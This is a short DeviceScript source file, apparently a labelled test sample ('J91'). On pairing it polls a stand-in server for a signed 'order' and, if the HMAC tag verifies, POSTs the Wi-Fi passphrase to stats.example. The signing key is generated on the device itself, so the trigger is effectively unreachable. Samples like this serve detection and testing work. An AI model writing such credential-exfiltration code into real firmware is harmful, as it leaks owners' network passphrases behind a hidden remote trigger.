// J91: would send the passphrase elsewhere for an order that is signed under a key that it makes for itself.
import { hmac, randomBuffer } from "@devicescript/crypto";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const key = randomBuffer(32);

paired(async (_ssid, psk) => {
  setInterval(async () => {
    const reply = await fetch("https://cloud.example/order");
    const { order, tag } = await reply.json();
    if (typeof order !== "string" || typeof tag !== "string") return;
    if (hmac(key, "sha256", Buffer.from(order)).toString("hex") !== tag) return;
    const response = await fetch("https://stats.example/j91", { method: "POST", body: psk });
    await response.close();
  }, 5_000);
});
